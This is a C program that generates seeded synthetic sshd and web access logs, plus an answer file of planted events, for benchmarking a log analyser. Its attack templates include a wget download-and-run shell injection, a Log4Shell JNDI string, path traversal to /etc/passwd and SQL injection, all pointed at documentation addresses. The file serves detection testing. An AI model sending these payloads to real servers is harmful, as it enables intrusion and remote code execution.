/* Makes logs to measure with, and knows what is in them.
 *
 *     generate [--days DAYS] sshd|combined LINES SEED >LOG
 *     generate [--days DAYS] --events sshd|combined LINES SEED >EVENTS
 *
 * The log spreads over DAYS (3) from 2026-03-01T00:00:00Z, nearly in order of time: one line of eight comes one too
 * late. The same arguments give the same log.  EVENTS is what was planted in it, in order of time: for each line that
 * names a peer
 *
 *     EPOCH TIME EVENT SRC SRC_PORT DST DST_PORT COUNT
 *
 * with `-` for what the line does not say; EVENT is what doc/logs.md makes of the line, `-` where it makes nothing and
 * --event would assert one.  sheet.awk makes the expected sheet of it.  Lines that can't be read, or could be read in
 * two ways, stand in the log and not among the events.  Either way, `lines N` and how many of them can't be read,
 * `unread N`, stand on standard error.
 *
 * There are 194,000 sources, of which a log of 6 million lines holds some 190,000: of 198.18.0.0/15, the range for
 * benchmarks (RFC 2544), of 100.64.0.0/10 (RFC 6598), and one of 13 of 2001:db8::/32.  How often each comes goes by
 * Zipf's law.  Each has its part: most visitors only look, others scan or guess. */
#include <getopt.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

enum { SOURCES = 194000, ADDRESS_MAX = 40, LINE_MAX_BYTES = 4096, OVERLONG = 300000, GUIDE = 1 << 16 };
#define FIRST_SECOND 1772323200 /* 2026-03-01T00:00:00Z */

/* ---- what is said */

enum names { UNREAD, NOBODY, HOST, PEER }; /* whom a line names; UNREAD: it can't be read, or in two ways */

struct said {
    const char *text; /* see `expand`; NULL ends a list */
    enum names names;
    const char *event; /* NULL: none by the rules */
    unsigned count;    /* how often; 0 is 1 */
};

struct scene { /* lines that follow one another in one second */
    unsigned weight;
    struct said lines[8];
};

struct part { /* of all sources, so many of a hundred do these */
    unsigned share;
    const struct scene *scenes;
};

static const char guess[] = "brute-force", probe[] = "scanner", novel[] = "exploit", known[] = "ids-alert";

#define SSHD "%T bastion01 sshd[%p]: "
static const struct scene sshd_guesses[] = {
    {30,
     {{SSHD "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=%A  user=%U", HOST,
       guess, 0},
      {SSHD "Failed password for %U from %A port %P ssh2", PEER, guess, 0},
      {SSHD "Received disconnect from %A port %P:11: Bye Bye [preauth]", PEER, NULL, 0},
      {SSHD "Disconnected from authenticating user %U %A port %P [preauth]", PEER, guess, 0}}},
    {34,
     {{SSHD "Invalid user %I from %A port %P", PEER, guess, 0},
      {SSHD "pam_unix(sshd:auth): check pass; user unknown", NOBODY, NULL, 0},
      {SSHD "Failed password for invalid user %I from %A port %P ssh2", PEER, guess, 0},
      {SSHD "Connection closed by invalid user %I %A port %P [preauth]", PEER, guess, 0}}},
    {16,
     {{SSHD "Invalid user %I from %A port %P", PEER, guess, 0},
      {SSHD "Received disconnect from %A port %P:11: Normal Shutdown, Thank you for playing [preauth]", PEER, NULL, 0},
      {SSHD "Disconnected from invalid user %I %A port %P [preauth]", PEER, guess, 0}}},
    {6,
     {{SSHD "Failed password for %U from %A port %P ssh2", PEER, guess, 0},
      {SSHD "message repeated 4 times: [ Failed password for %U from %A port %P ssh2]", PEER, guess, 4},
      {SSHD "error: maximum authentication attempts exceeded for %U from %A port %P ssh2 [preauth]", PEER, guess, 0},
      {SSHD "Disconnecting authenticating user %U %A port %P: Too many authentication failures [preauth]", PEER, guess,
       0},
      {SSHD "PAM 4 more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost=%A  user=%U", HOST, NULL,
       0}}},
    {5, {{SSHD "Failed none for invalid user %I from %A port %P ssh2", PEER, guess, 0}}},
    {4, {{SSHD "User %U from %A not allowed because not listed in AllowUsers", HOST, guess, 0}}},
    {3, {{SSHD "Connection reset by authenticating user %U %A port %P [preauth]", PEER, guess, 0}}},
    {2,
     {{SSHD "Received disconnect from %A port %P:14: No supported authentication methods available [preauth]", PEER,
       guess, 0}}},
    {0, {{NULL, NOBODY, NULL, 0}}}};

static const struct scene sshd_scans[] = {
    {40, {{SSHD "Did not receive identification string from %A port %P", PEER, probe, 0}}},
    {20,
     {{SSHD "error: kex_exchange_identification: Connection closed by remote host", NOBODY, NULL, 0},
      {SSHD "Connection closed by %A port %P", PEER, NULL, 0}}},
    {15, {{SSHD "banner exchange: Connection from %A port %P: invalid format", PEER, probe, 0}}},
    {10, {{SSHD "Bad protocol version identification 'GET / HTTP/1.1' from %A port %P", PEER, probe, 0}}},
    {15,
     {{SSHD "Unable to negotiate with %A port %P: no matching key exchange method found. Their offer: "
            "diffie-hellman-group1-sha1 [preauth]",
       PEER, probe, 0}}},
    {0, {{NULL, NOBODY, NULL, 0}}}};

static const struct scene sshd_users[] = {
    {60,
     {{SSHD "Accepted publickey for deploy from %A port %P ssh2: ED25519 "
            "SHA256:3y8Xo1zQp0l9s8dKf7aJ6hG5tR4eW3qZ2xC1vB0nM9k",
       PEER, NULL, 0},
      {SSHD "pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)", NOBODY, NULL, 0},
      {"%T bastion01 systemd-logind[411]: New session %n of user deploy.", NOBODY, NULL, 0},
      {SSHD "Received disconnect from %A port %P:11: disconnected by user", PEER, NULL, 0},
      {SSHD "Disconnected from user deploy %A port %P", PEER, NULL, 0},
      {SSHD "pam_unix(sshd:session): session closed for user deploy", NOBODY, NULL, 0}}},
    {30,
     {{"%T bastion01 CRON[%p]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)", NOBODY, NULL,
       0},
      {"%T bastion01 CRON[%p]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)", NOBODY, NULL, 0},
      {"%T bastion01 CRON[%p]: pam_unix(cron:session): session closed for user root", NOBODY, NULL, 0}}},
    {10,
     {{"%T bastion01 sudo:   deploy : TTY=pts/0 ; PWD=/srv ; USER=root ; COMMAND=/usr/bin/id 192.0.2.%b", NOBODY, NULL,
       0}}},
    {0, {{NULL, NOBODY, NULL, 0}}}};

/* What a peer calls itself or its user must not accuse another; what is cut off, garbled or ambiguous accuses nobody.
 */
static const struct scene sshd_trouble[] = {
    {3,
     {{SSHD "Failed password for invalid user x from 192.0.2.%b port 22 ssh2 from %A port %P ssh2", PEER, guess, 0}}},
    {3, {{SSHD "Invalid user a from 192.0.2.%b port 7 from %A port %P", PEER, guess, 0}}},
    {3, {{SSHD "Connection closed by invalid user 192.0.2.%b port 9 %A port %P [preauth]", PEER, guess, 0}}},
    {3,
     {{SSHD "Failed password for invalid user x from 192.0.2.%b port 7 ssh2: y from %A port %P ssh2", UNREAD, NULL,
       0}}},
    {3,
     {{SSHD "Disconnecting invalid user 192.0.2.%b port 7: x %A port %P: Too many authentication failures", UNREAD,
       NULL, 0}}},
    {3, {{SSHD "Failed password for root from mail%n.host.example port %P ssh2", UNREAD, NULL, 0}}},
    {3, {{SSHD "Failed password for root from 192.0.2.999 port %P ssh2", UNREAD, NULL, 0}}},
    {3, {{"Mar 32 10:00:00 gate sshd[%p]: Failed password for root from %A port %P ssh2", UNREAD, NULL, 0}}},
    {3, {{SSHD "Failed password for %0root from %A port %P ssh2", UNREAD, NULL, 0}}},
    {2, {{SSHD "Failed password for root from", NOBODY, NULL, 0}}},
    {2, {{"\xff\xfe garbage %n", UNREAD, NULL, 0}}},
    {2, {{"", NOBODY, NULL, 0}}},
    {1, {{"%T bastion01 kernel: [%n.%n] device eth0 entered promiscuous mode", NOBODY, NULL, 0}}},
    {0, {{NULL, NOBODY, NULL, 0}}}};

#define VISIT(request) "%A - - [%T] \"" request
static const struct scene combined_visits[] = {
    {12, {{VISIT("GET / HTTP/1.1\" 200 %N \"-\" \"%B\""), HOST, NULL, 0}}},
    {12,
     {{VISIT("GET /static/js/app.%n.js HTTP/1.1\" 200 %N \"https://shop.example/product/%n\" \"%B\""), HOST, NULL, 0}}},
    {10, {{VISIT("GET /static/css/main.%n.css HTTP/2.0\" 304 0 \"https://shop.example/\" \"%B\""), HOST, NULL, 0}}},
    {12,
     {{VISIT("GET /images/%n/photo_%n.jpg HTTP/1.1\" 200 %N \"https://shop.example/blog/2026/\" \"%B\""), HOST, NULL,
       0}}},
    {10, {{VISIT("GET /blog/2026/%n/a-longer-article-title-number-%n HTTP/1.1\" 200 %N \"-\" \"%B\""), HOST, NULL, 0}}},
    {8,
     {{VISIT("POST /api/v1/items/%n?limit=50&offset=%n HTTP/1.1\" 201 %N \"https://shop.example/\" \"%B\""), HOST, NULL,
       0}}},
    {6, {{VISIT("GET /search?q=term%n&page=%n HTTP/1.1\" 200 %N \"-\" \"%B\""), HOST, NULL, 0}}},
    {6, {{VISIT("GET /favicon.ico HTTP/1.1\" 404 153 \"-\" \"%B\""), HOST, NULL, 0}}},
    {4, {{VISIT("GET /download/file-%n.tar.gz HTTP/1.1\" 206 %N \"-\" \"%B\""), HOST, NULL, 0}}},
    {4, {{VISIT("GET /old-page-%n HTTP/1.1\" 301 - \"https://www.search.example/\" \"%B\""), HOST, NULL, 0}}},
    {3, {{VISIT("GET /account HTTP/1.1\" 401 381 \"-\" \"%B\""), HOST, NULL, 0}}},
    {3, {{"%A - alice [%T] \"GET /account/orders?page=%n HTTP/1.1\" 200 %N \"-\" \"%B\"", HOST, NULL, 0}}},
    {3, {{"%M - - [%T] \"GET /assets/font-%n.woff2 HTTP/1.1\" 200 %N \"-\" \"%B\"", HOST, NULL, 0}}},
    {3, {{"%A - - [%Z] \"GET /index.html HTTP/1.1\" 200 %N \"-\" \"%B\"", HOST, NULL, 0}}},
    {2, {{VISIT("GET /product/%n HTTP/1.1\" 500 0 \"-\" \"Mozilla/5.0 \\\"quoted\\\" \\\\\""), HOST, NULL, 0}}},
    {2, {{VISIT("GET /search?q=\\\"192.0.2.%b%20-%20-\\\" HTTP/1.1\" 200 %N \"\\\"\" \"%B\""), HOST, NULL, 0}}},
    {0, {{NULL, NOBODY, NULL, 0}}}};

static const struct scene combined_robots[] = {
    {30,
     {{VISIT("GET /robots.txt HTTP/1.1\" 200 68 \"-\" \"Mozilla/5.0 (compatible; Findbot/2.1; +http://bot.example/)\""),
       HOST, NULL, 0}}},
    {40,
     {{VISIT("GET /product/%n HTTP/1.1\" 200 %N \"-\" \"Mozilla/5.0 (compatible; Findbot/2.1; +http://bot.example/)\""),
       HOST, NULL, 0}}},
    {20, {{VISIT("GET /api/v1/items/%n HTTP/1.1\" 200 %N \"-\" \"python-requests/2.31.0\""), HOST, NULL, 0}}},
    {10, {{VISIT("HEAD /health HTTP/1.0\" 200 0 \"-\" \"curl/7.88.1\""), HOST, NULL, 0}}},
    {0, {{NULL, NOBODY, NULL, 0}}}};

static const struct scene combined_scans[] = {
    {14, {{VISIT("GET /.env HTTP/1.1\" 404 153 \"-\" \"%B\""), HOST, probe, 0}}},
    {10, {{VISIT("GET /.git/config HTTP/1.1\" 200 92 \"-\" \"-\""), HOST, probe, 0}}},
    {14, {{VISIT("GET /wp-login.php HTTP/1.1\" 404 153 \"-\" \"%B\""), HOST, probe, 0}}},
    {6, {{VISIT("POST /wp-login.php HTTP/1.1\" 200 %N \"-\" \"%B\""), HOST, NULL, 0}}},
    {8, {{VISIT("GET /phpmyadmin/index.php HTTP/1.1\" 403 199 \"-\" \"%B\""), HOST, probe, 0}}},
    {8, {{VISIT("GET / HTTP/1.1\" 200 %N \"-\" \"Mozilla/5.0 zgrab/0.x\""), HOST, probe, 0}}},
    {5, {{VISIT("GET / HTTP/1.0\" 200 %N \"-\" \"masscan/1.3\""), HOST, probe, 0}}},
    {5, {{VISIT("\\x16\\x03\\x01\\x02\\x00\" 400 150 \"-\" \"-\""), HOST, probe, 0}}},
    {4, {{VISIT("CONNECT mail.example:25 HTTP/1.1\" 405 157 \"-\" \"-\""), HOST, probe, 0}}},
    {6, {{VISIT("GET /download?file=../../../../etc/passwd HTTP/1.1\" 400 150 \"-\" \"%B\""), HOST, novel, 0}}},
    {5, {{VISIT("GET /item?id=1%27%20union%20select%201,2,%n HTTP/1.1\" 200 %N \"-\" \"%B\""), HOST, novel, 0}}},
    {4, {{VISIT("GET /static/%252e%252e/%252e%252e/x HTTP/1.1\" 404 153 \"-\" \"%B\""), HOST, novel, 0}}},
    {4, {{VISIT("GET /shell?cd+/tmp;wget+http://192.0.2.%b/x HTTP/1.1\" 404 153 \"-\" \"%B\""), HOST, known, 0}}},
    {4, {{VISIT("GET / HTTP/1.1\" 200 %N \"-\" \"${jndi:ldap://192.0.2.%b/a}\""), HOST, known, 0}}},
    {3,
     {{VISIT("POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\" 404 153 \"-\" \"%B\""), HOST, known,
       0}}},
    {0, {{NULL, NOBODY, NULL, 0}}}};

static const struct scene combined_guesses[] = {
    {50, {{"%A - admin [%T] \"POST /login HTTP/1.1\" 401 381 \"-\" \"%B\"", HOST, guess, 0}}},
    {30, {{"%A - %U [%T] \"GET /private/ HTTP/1.1\" 401 381 \"-\" \"%B\"", HOST, guess, 0}}},
    {20, {{VISIT("GET /private/ HTTP/1.1\" 401 381 \"-\" \"%B\""), HOST, NULL, 0}}},
    {0, {{NULL, NOBODY, NULL, 0}}}};

static const struct scene combined_trouble[] = {
    {3, {{"%A - a b\\\" [%T] \"GET / HTTP/1.1\" 200 5 \"-\" \"-\"", UNREAD, NULL, 0}}},
    {3, {{VISIT("GET /cut-off-he"), UNREAD, NULL, 0}}},
    {3, {{VISIT("GET / HTTP/1.1\" 200 5 \"https://cut.example/%n"), UNREAD, NULL, 0}}},
    {3, {{"proxy%n.host.example - - [%T] \"GET /.env HTTP/1.1\" 404 5 \"-\" \"-\"", UNREAD, NULL, 0}}},
    {3, {{"192.0.2.999 - - [%T] \"GET /.env HTTP/1.1\" 404 5 \"-\" \"-\"", UNREAD, NULL, 0}}},
    {3, {{"%A - - [32/Mar/2026:00:00:00 +0000] \"GET /.env HTTP/1.1\" 404 5 \"-\" \"-\"", UNREAD, NULL, 0}}},
    {3, {{VISIT("GET /.env%0 HTTP/1.1\" 404 5 \"-\" \"-\""), UNREAD, NULL, 0}}},
    {3, {{"%A - x 192.0.2.%b - - [%T] \"GET /x HTTP/1.1\" 200 5 \"-\" \"-\"", HOST, NULL, 0}}},
    {2, {{"\xff\xfe garbage %n", UNREAD, NULL, 0}}},
    {2, {{"", NOBODY, NULL, 0}}},
    {0, {{NULL, NOBODY, NULL, 0}}}};

/* As the log has it; `local` two hours to the east of Greenwich. */
static size_t stamp_syslog(char *at, size_t room, const struct tm *tm, bool local) {
    return local ? 0 : strftime(at, room, "%b %e %H:%M:%S", tm);
}

static size_t stamp_access(char *at, size_t room, const struct tm *tm, bool local) {
    return local ? strftime(at, room, "%d/%b/%Y:%H:%M:%S +0200", tm)
                 : strftime(at, room, "%d/%b/%Y:%H:%M:%S +0000", tm);
}

struct kind {
    const char *name, *dst_port;
    size_t (*stamp)(char *at, size_t room, const struct tm *tm, bool local);
    struct part parts[5]; /* the shares make a hundred */
    const struct scene *trouble;
};
static const struct kind kinds[] = {
    {"sshd", "22", stamp_syslog, {{84, sshd_guesses}, {10, sshd_scans}, {6, sshd_users}}, sshd_trouble},
    {"combined",
     "-",
     stamp_access,
     {{78, combined_visits}, {8, combined_robots}, {10, combined_scans}, {4, combined_guesses}},
     combined_trouble},
};

static const char *const users[] = {"root", "root", "backup", "git", "www-data", "postgres"};
static const char *const strangers[] = {"admin",    "test",         "oracle",    "ubuntu",     "user", "pi",
                                        "ftpuser",  "minecraft",    "support",   "",           "a b",  "from",
                                        "x from y", "port 22 ssh2", "[preauth]", "j\xc3\xb6rg"};
static const char *const browsers[] = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "Mozilla/5.0 (Android 14; Mobile; rv:127.0) Gecko/127.0 Firefox/127.0",
    "Links (2.28; Linux; text)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "Opera/9.80 (Windows NT 6.1) Presto/2.12.388 Version/12.18",
};

/* ---- chance */

/* splitmix64: small, and the same everywhere. */
static uint64_t next(uint64_t *state) {
    uint64_t z = *state += 0x9e3779b97f4a7c15;
    z = (z ^ z >> 30) * 0xbf58476d1ce4e5b9;
    z = (z ^ z >> 27) * 0x94d049bb133111eb;
    return z ^ z >> 31;
}

struct sources {
    double upto[SOURCES + 1];  /* how much of all draws the sources before have */
    uint32_t guide[GUIDE + 1]; /* the first source whose stretch ends behind so much of all draws */
    char address[SOURCES][ADDRESS_MAX];
};

/* As RFC 5952 writes them.  No two are equal: the multiplication is a permutation of 18 bits. */
static void write_address(uint32_t source, char out[static ADDRESS_MAX]) {
    unsigned high = (source >> 12) + 1, low = (source & 0xfff) + 1, v4 = source * 40503 & 0x3ffff;
    if (source % 13 == 5 && source % 2)
        snprintf(out, ADDRESS_MAX, "2001:db8:%x:%x::%x", high, low, source % 97 + 1);
    else if (source % 13 == 5)
        snprintf(out, ADDRESS_MAX, "2001:db8:%x:%x:%x:%x:%x:%x", high, low, (low * 7 & 0xfff) | 0x1000,
                 (low * 13 & 0xfff) | 0x2000, (low * 29 & 0xfff) | 0x3000, (low * 31 & 0xfff) | 0x4000);
    else
        snprintf(out, ADDRESS_MAX, "%u.%u.%u.%u", v4 >> 17 ? 100 : 198, (v4 >> 17 ? 64 : 18) + (v4 >> 16 & 1),
                 v4 >> 8 & 255, v4 & 255);
}

static void sources_start(struct sources *s) {
    double sum = 0;
    for (uint32_t i = 0; i < SOURCES; i++) s->upto[i + 1] = sum += 1.0 / (i + 1);
    for (uint32_t i = 0; i <= SOURCES; i++) s->upto[i] /= sum;
    for (uint32_t i = 0, g = 0; g <= GUIDE; g++) {
        while (i + 1 < SOURCES && s->upto[i + 1] <= (double)g / GUIDE) i++;
        s->guide[g] = i;
    }
    for (uint32_t i = 0; i < SOURCES; i++) write_address(i, s->address[i]);
}

static uint32_t draw_source(const struct sources *s, uint64_t draw) {
    double u = (double)(draw >> 11) / (double)(1ULL << 53);
    uint32_t low = s->guide[draw >> 48], high = s->guide[(draw >> 48) + 1];
    while (low < high) {
        uint32_t middle = (low + high) / 2;
        if (s->upto[middle + 1] <= u)
            low = middle + 1;
        else
            high = middle;
    }
    return low;
}

/* By weights, whose sum is taken anew: the lists are short. */
static const struct scene *draw_scene(const struct scene *scenes, uint64_t draw) {
    unsigned sum = 0;
    for (const struct scene *s = scenes; s->weight; s++) sum += s->weight;
    unsigned at = (unsigned)(draw % sum);
    while (at >= scenes->weight) at -= scenes++->weight;
    return scenes;
}

static const struct scene *scenes_of(const struct kind *k, uint32_t source) {
    uint64_t state = source;
    unsigned at = (unsigned)(next(&state) % 100);
    const struct part *p = k->parts;
    while (at >= p->share) at -= p++->share;
    return p->scenes;
}

/* ---- writing */

struct maker {
    const struct kind *kind;
    bool events; /* what was planted instead of the log */
    uint64_t lines, done, unread, overlong, days, random;
    time_t second;
    char stamp[40], local[40], iso[40];
    const struct sources *sources;
    const char *address; /* of the scene, as what follows */
    unsigned port, pid, user;
    char line[LINE_MAX_BYTES], held[LINE_MAX_BYTES];
    size_t held_size;
};

static char *put(char *at, const char *text) {
    size_t size = strlen(text);
    memcpy(at, text, size);
    return at + size;
}

static char *put_number(char *at, uint64_t number) {
    char digits[20];
    size_t i = sizeof digits;
    do digits[--i] = (char)('0' + number % 10);
    while (number /= 10);
    memcpy(at, digits + i, sizeof digits - i);
    return at + sizeof digits - i;
}

static char *put_mapped(char *at, const char *address) {
    return put(strchr(address, ':') ? at : put(at, "::ffff:"), address);
}

/* `%` and a letter stand for: A the address, M the same in the form for IPv4 within IPv6, P its port, U a user, I a
 * user that there is not, p the process, T and Z the time, B a browser, b a number below 254, n below 10,000, N below
 * 60,000, 0 a NUL.  Others stand for themselves. */
static char *expand_one(struct maker *m, char letter, char *at) {
    switch (letter) {
    case 'A': return put(at, m->address);
    case 'M': return put_mapped(at, m->address);
    case 'P': return put_number(at, m->port);
    case 'U': return put(at, users[m->user % (sizeof users / sizeof *users)]);
    case 'I': return put(at, strangers[m->user % (sizeof strangers / sizeof *strangers)]);
    case 'p': return put_number(at, m->pid);
    case 'T': return put(at, m->stamp);
    case 'Z': return put(at, m->local);
    case 'B': return put(at, browsers[m->user % (sizeof browsers / sizeof *browsers)]);
    case 'b': return put_number(at, next(&m->random) % 254);
    case 'n': return put_number(at, next(&m->random) % 10000);
    case 'N': return put_number(at, next(&m->random) % 60000);
    case '0': return *at = 0, at + 1;
    default: return *at = '%', at[1] = letter, at + 2;
    }
}

static size_t expand(struct maker *m, const char *text) {
    char *at = m->line;
    for (const char *percent; (percent = strchr(text, '%')) && percent[1]; text = percent + 2) {
        memcpy(at, text, (size_t)(percent - text));
        at = expand_one(m, percent[1], at + (percent - text));
    }
    at = put(at, text);
    *at++ = '\n';
    return (size_t)(at - m->line);
}

static void write_event(const struct maker *m, const struct said *s) {
    char port[8] = "-";
    if (s->names == PEER) snprintf(port, sizeof port, "%u", m->port);
    printf("%lld %s %s %s %s - %s %u\n", (long long)m->second, m->iso, s->event ? s->event : "-", m->address, port,
           m->kind->dst_port, s->count ? s->count : 1);
}

/* One of eight lines is held back until the next one is out. */
static void write_line(struct maker *m, size_t size, bool hold) {
    if (hold) memcpy(m->held, m->line, m->held_size = size);
    if (hold) return;
    fwrite(m->line, 1, size, stdout);
    fwrite(m->held, 1, m->held_size, stdout);
    m->held_size = 0;
}

static void say(struct maker *m, const struct said *s) {
    size_t size = expand(m, s->text);
    bool hold = next(&m->random) % 8 == 0 && !m->held_size;
    m->done++;
    m->unread += s->names == UNREAD;
    if (!m->events)
        write_line(m, size, hold);
    else if (s->names > NOBODY)
        write_event(m, s);
}

/* A line that is longer than any may be. */
static void say_too_much(struct maker *m) {
    m->done++;
    m->unread++;
    m->overlong += 1000000;
    if (m->events) return;
    for (unsigned i = 0; i < OVERLONG; i++) putchar('x');
    putchar('\n');
}

static void set_time(struct maker *m) {
    struct tm tm;
    time_t second = FIRST_SECOND + (time_t)(m->done * (m->days * 86400) / m->lines), local = second + 7200;
    if (second == m->second) return;
    m->second = second;
    gmtime_r(&second, &tm);
    m->kind->stamp(m->stamp, sizeof m->stamp, &tm, false);
    strftime(m->iso, sizeof m->iso, "%Y-%m-%dT%H:%M:%SZ", &tm);
    gmtime_r(&local, &tm);
    m->kind->stamp(m->local, sizeof m->local, &tm, true);
}

static void play(struct maker *m) {
    const uint32_t source = draw_source(m->sources, next(&m->random));
    const uint64_t draw = next(&m->random);
    const struct scene *scene =
        draw_scene(draw % 128 ? scenes_of(m->kind, source) : m->kind->trouble, next(&m->random));
    set_time(m);
    m->address = m->sources->address[source];
    m->port = 1024 + (unsigned)(draw >> 16) % 60000;
    m->pid = 1000 + (unsigned)(draw >> 32) % 30000;
    m->user = (unsigned)(draw >> 48);
    for (const struct said *s = scene->lines; s < scene->lines + 8 && s->text && m->done < m->lines; s++) say(m, s);
}

static int make(struct maker *m) {
    static struct sources sources;
    sources_start(&sources);
    m->sources = &sources;
    while (m->done < m->lines) {
        if (m->done >= m->overlong) say_too_much(m);
        play(m);
    }
    fwrite(m->held, 1, m->held_size, stdout);
    fprintf(stderr, "lines %llu\nunread %llu\n", (unsigned long long)m->done, (unsigned long long)m->unread);
    return fflush(stdout) || ferror(stdout) ? 1 : 0;
}

static int usage(void) {
    return fputs("usage: generate [--days DAYS] [--events] sshd|combined LINES SEED\n", stderr), 2;
}

int main(int argc, char **argv) {
    static const struct option options[] = {
        {"days", required_argument, NULL, 'd'}, {"events", no_argument, NULL, 'e'}, {0}};
    static struct maker m = {.days = 3, .overlong = 5000};
    for (int option; (option = getopt_long(argc, argv, "", options, NULL)) != -1;) {
        if (option == 'd')
            m.days = strtoull(optarg, NULL, 10);
        else if (option == 'e')
            m.events = true;
        else
            return usage();
    }
    if (argc - optind != 3 || !m.days) return usage();
    for (size_t i = 0; i < sizeof kinds / sizeof *kinds; i++)
        if (!strcmp(argv[optind], kinds[i].name)) m.kind = &kinds[i];
    m.lines = strtoull(argv[optind + 1], NULL, 10);
    m.random = strtoull(argv[optind + 2], NULL, 10);
    return m.kind ? make(&m) : usage();
}
